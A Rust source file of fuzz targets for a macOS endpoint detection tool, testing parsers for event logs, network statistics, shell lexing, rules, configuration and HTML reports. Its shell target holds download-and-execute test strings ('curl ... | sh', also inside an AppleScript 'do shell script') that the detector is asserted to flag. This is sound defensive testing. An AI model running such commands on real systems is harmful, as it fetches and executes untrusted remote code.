//! Every parser that meets bytes of others, for `fuzz/`: no input may panic, and what holds for any input is asserted.

use std::cell::RefCell;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

use serde_json::{Map, Value as Json};

use crate::alert::runs_download;
use crate::config::{Config, ExceptionFile};
use crate::detect::RuleSet;
use crate::eql::{Lineages, compile, compile_condition};
use crate::event::{Categories, Decoded, Event, Fields, Line, Machine, ProcessRef, Timestamp};
use crate::event::{document, ecs, field, surrogates};
use crate::report::{self, html};
use crate::script::{self, Capture, Redactor};
use crate::shell::lex;
use crate::source::endpoint_security::connect as connect_event;
use crate::source::ntstat::{Client, ContinuousClock};
use crate::source::recording::{Next, Recording};
use crate::source::{eslogger, libproc};

/// A parser by name, and what runs it.
pub type Target = (&'static str, fn(&[u8]));

/// The parsers.
pub const TARGETS: [Target; 19] = [
    ("alert_document", alert_document),
    ("config_file", config_file),
    ("connect_event", connect_event),
    ("ecs_document", ecs_document),
    ("eql_query", eql_query),
    ("eslogger_line", eslogger_line),
    ("exception_file", exception_file),
    ("indicators", indicators),
    ("ntstat_datagrams", ntstat_datagrams),
    ("ntstat_descriptor", ntstat_descriptor),
    ("process_arguments", process_arguments),
    ("recording", recording),
    ("redaction", redaction),
    ("rule_file", rule_file),
    ("script_arguments", script_arguments),
    ("script_file", script_file),
    ("shell", shell),
    ("socket_info", socket_info),
    ("surrogates", surrogates),
];

/// Runs one parser.
///
/// # Panics
/// When there is none of that name, and when it has a bug.
pub fn run(name: &str, bytes: &[u8]) {
    let target = TARGETS.iter().find(|(known, _)| *known == name);
    target.unwrap_or_else(|| panic!("no target is called {name}")).1(bytes);
}

/// The table of fields takes longer to make than most inputs take to read.
fn fields() -> Fields {
    static FIELDS: LazyLock<Fields> = LazyLock::new(Fields::new);
    FIELDS.clone()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

thread_local! {
    static ECS: RefCell<ecs::Decoder> = RefCell::new(ecs::Decoder::new(&Fields::new()));
}

fn decoded(line: &str) -> Option<Event> {
    match ECS.with_borrow_mut(|ecs| ecs.decode(&Line::from(line.to_owned()))) {
        Ok(Decoded::Event(event)) => Some(event),
        _ => None,
    }
}

/// However a document is read, it is the same event. What an alert contains of an event can be read again as the same.
fn ecs_document(bytes: &[u8]) {
    if let Some((scanned, parsed)) = ECS.with_borrow_mut(|ecs| ecs.both_ways(&Line::from(text(bytes)))) {
        assert_eq!(format!("{scanned:?}"), format!("{:?}", parsed.expect("what is read at once is JSON")));
    }
    let Some(event) = decoded(&text(bytes)) else { return };
    let written = Json::Object(document::document(&event)).to_string();
    let again = decoded(&written).expect("a document of an event is an event");
    assert_eq!(event.time, again.time);
    assert_eq!(Json::Object(document::document(&again)).to_string(), written);
}

fn eslogger_line(bytes: &[u8]) {
    thread_local! {
        static DECODER: eslogger::Decoder = eslogger::Decoder::new(Machine::default(), Some("mac".to_owned()));
    }
    let line = Line::from(text(bytes));
    let _ = eslogger::message_version(&line);
    if let Ok(Decoded::Event(event)) = DECODER.with(|decoder| decoder.decode(&line)) {
        let written = Json::Object(document::document(&event)).to_string();
        assert!(decoded(&written).is_some(), "a document of an event is an event");
    }
}

/// What is repaired needs no repair, and is as long in characters or shorter.
fn surrogates(bytes: &[u8]) {
    let text = text(bytes);
    if let Some(repaired) = surrogates::repaired(&text) {
        assert_eq!(surrogates::repaired(&repaired), None);
        assert_eq!(repaired.len(), text.len());
    }
}

fn client() -> Client {
    let own = ProcessRef { pid: 7, unique_pid: Some(7) };
    let clock = ContinuousClock { numer: 125, denom: 3, ticks: 1_000_000, time: Timestamp::default() };
    let mut client = Client::new(own, clock, 0);
    client.start(Duration::ZERO);
    client.skip_self_test();
    client
}

fn drain(client: &mut Client, now: Duration) {
    client.tick(now, |_| true);
    while client.next_action().is_some() {}
}

/// Datagrams, each after a byte that holds its length in units of 8.
fn ntstat_datagrams(bytes: &[u8]) {
    let (mut client, mut rest, mut now) = (client(), bytes, Duration::ZERO);
    while let Some((length, after)) = rest.split_first() {
        let (datagram, after) = after.split_at((usize::from(*length) * 8).min(after.len()));
        now += Duration::from_millis(u64::from(*length));
        client.receive(datagram, now, Timestamp::default());
        if *length == 0 {
            client.no_room();
        }
        drain(&mut client, now);
        rest = after;
    }
}

/// A source, and its description by these bytes, in a description and in an update.
fn ntstat_descriptor(bytes: &[u8]) {
    let Some((provider, descriptor)) = bytes.split_first() else { return };
    let message = |kind: u32, body: &[&[u8]]| {
        let length: usize = 16 + body.iter().map(|part| part.len()).sum::<usize>();
        let length = u16::try_from(length).unwrap_or(u16::MAX).to_le_bytes();
        [&[0; 8], &kind.to_le_bytes()[..], &length, &[0; 2], &body.concat()].concat()
    };
    let (source, provider) = (9_u64.to_le_bytes(), u32::from(*provider % 12).to_le_bytes());
    let mut client = client();
    let added = message(10_001, &[&source, &provider, &[0; 4]]);
    let described = message(10_003, &[&source, &[0; 8], &provider, &[0; 4], descriptor]);
    let updated = message(10_006, &[&source, &[0; 8], &[0; 112], &provider, &[0; 4], descriptor]);
    for datagram in [added, described, updated] {
        client.receive(&datagram, Duration::from_secs(1), Timestamp::default());
        drain(&mut client, Duration::from_secs(1));
    }
}

fn socket_info(bytes: &[u8]) {
    let sockets = bytes.chunks(libproc::socket::SOCKET_INFO_SIZE).filter_map(libproc::socket::socket).collect();
    let _ = libproc::socket::connections(sockets);
    let _ = (libproc::process::bsd_info(bytes), libproc::process::unique_info(bytes));
    assert!(libproc::socket::socket_descriptors(bytes).count() <= bytes.len());
}

fn process_arguments(bytes: &[u8]) {
    let length: usize = libproc::process::arguments(bytes, usize::MAX).iter().map(String::len).sum();
    // A byte that is not UTF-8 becomes a character of three.
    assert!(length <= 3 * bytes.len());
}

fn connect_event(bytes: &[u8]) {
    let end = |port| SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), port);
    if let Some(order) = connect_event::detect(bytes, end(50_000), end(50_001)) {
        assert!(connect_event::parse(bytes, order).is_some());
    }
    let _ = connect_event::name_token(bytes);
}

fn script_file(bytes: &[u8]) {
    let script = script::described(bytes);
    assert!(script.text.is_none_or(|text| text.len() <= 8192));
}

fn indicators(bytes: &[u8]) {
    for name in script::described(bytes).indicators {
        assert!(script::reason(name).is_some(), "{name} has no reason");
    }
}

/// Arguments between zeros, the program's name first.
fn script_arguments(bytes: &[u8]) {
    let text = text(bytes);
    let mut args = text.split('\0');
    let mut event = Event::new(Timestamp::default(), Categories::PROCESS);
    event.push_str(field::EVENT_TYPE, "start");
    event.push_str(field::PROCESS_NAME, args.next().unwrap_or_default());
    event.push_str(field::PROCESS_EXECUTABLE, "/Applications/Some.app/Contents/MacOS/applet");
    args.for_each(|arg| event.push_str(field::PROCESS_ARGS, arg));
    let _ = script::of_arguments(&event, Capture::Full);
}

/// Redaction is done after one pass, and leaves a document as readable as it was.
fn redaction(bytes: &[u8]) {
    static REDACTOR: LazyLock<Redactor> = LazyLock::new(|| Redactor::new(&[], true).expect("the defaults compile"));
    let text = text(bytes);
    let args: Vec<&str> = text.split('\0').collect();
    let document = serde_json::json!({
        "process": { "command_line": args.join(" "), "args": args, "env_vars": args },
        "osawatch": { "script": { "text": text } },
    });
    let Json::Object(mut document) = document else { return };
    REDACTOR.apply(&mut document);
    assert_eq!(document["process"]["args"].as_array().map(Vec::len), Some(args.len()));
}

/// Tokens are parts of their text, in its order. No text hides the command before it or is more than the argument that
/// it is quoted as, and none is run as a comment.
fn shell(bytes: &[u8]) {
    let text = text(bytes);
    let mut end = 0;
    for token in lex(&text) {
        assert!(end <= token.start && text.get(token.start..token.end).is_some(), "{token:?} of {text:?}");
        end = token.end;
    }
    for command in ["curl -s https://a.example | sh", "do shell script \"curl -s https://a.example | sh\""] {
        assert!(runs_download(&format!("{command}\n{text}")), "{command:?} before {text:?}");
    }
    let argument = text.replace(['\'', '\\'], "");
    assert!(runs_download(&format!("curl -s 'https://{argument}' | sh")), "{argument:?}");
    let line = text.split(['\n', '\r']).next().unwrap_or_default();
    assert!(!runs_download(&format!("# {line}")), "{line:?}");
}

/// A query that compiles gives an answer to any event.
fn eql_query(bytes: &[u8]) {
    static EVENTS: LazyLock<Vec<Event>> = LazyLock::new(|| SAMPLES.iter().filter_map(|line| decoded(line)).collect());
    let text = text(bytes);
    let (mut fields, mut lineages) = (fields(), Lineages::default());
    if let Ok(query) = compile(&text, &mut fields, &mut lineages) {
        for event in EVENTS.iter() {
            let _ = query.stages.iter().filter(|stage| stage.selects(event)).count();
        }
    }
    let _ = compile_condition(&text, &mut fields, &mut lineages);
}

const SAMPLES: [&str; 2] = [
    r#"{"@timestamp":0,"event":{"category":"process","type":"start"},"process":{"name":"osascript","args":["a","b"],"pid":1}}"#,
    r#"{"@timestamp":1,"event":{"category":"network"},"process":{"entity_id":"x"},"destination":{"ip":"::1","port":443}}"#,
];

fn rule_file(bytes: &[u8]) {
    for rule in RuleSet::default().add_file("rule.toml", &text(bytes)).into_iter().flatten() {
        assert!(rule.query().is_some() || rule.inert().is_some());
    }
}

/// The effective configuration, as shown, is a configuration with the same effect.
fn config_file(bytes: &[u8]) {
    let Ok(config) = Config::parse("config.toml", &text(bytes)) else { return };
    let Ok(written) = config.to_toml() else { return };
    let again = Config::parse("config.toml", &written).expect("what is shown is a configuration");
    assert_eq!(again.to_toml().ok(), Some(written));
}

fn exception_file(bytes: &[u8]) {
    let _ = ExceptionFile::parse("exceptions.toml", &text(bytes));
}

/// Every line of a recording that is not blank is counted.
fn recording(bytes: &[u8]) {
    let Ok(mut recording) = Recording::of_bytes(Arc::from(bytes), &fields(), Machine::default()) else { return };
    loop {
        match recording.next() {
            Next::End => break,
            Next::Event(_) | Next::Problem(_) | Next::Failed(_) | Next::Idle => {}
        }
    }
    assert!(recording.totals().events <= recording.totals().lines);
}

/// Any document can be shown, and none adds markup or control characters.
fn alert_document(bytes: &[u8]) {
    let Ok(document) = serde_json::from_slice::<Map<String, Json>>(bytes) else { return };
    let shown = report::text(&document, report::Layout { width: Some(40), colour: false });
    assert!(!shown.chars().any(|c| c.is_control() && c != '\n'), "{shown:?}");
    let mut case = report::Case::default();
    case.add(document);
    let page = html::page(&case, Vec::new(), &std::collections::BTreeMap::new(), Timestamp::default());
    assert!(!page.contains("<script") && !page.contains("<img"));
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Inputs that fuzzing found, and one good input for each target: `fuzz/seeds/<target>/`.
    #[test]
    fn no_seed_of_fuzzing_panics() {
        for (name, target) in TARGETS {
            let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds").join(name);
            let seeds: Vec<_> = std::fs::read_dir(&folder).unwrap_or_else(|error| panic!("{name}: {error}")).collect();
            assert!(!seeds.is_empty(), "{name} has no seed");
            for seed in seeds {
                target(&std::fs::read(seed.unwrap().path()).unwrap());
            }
        }
    }
}
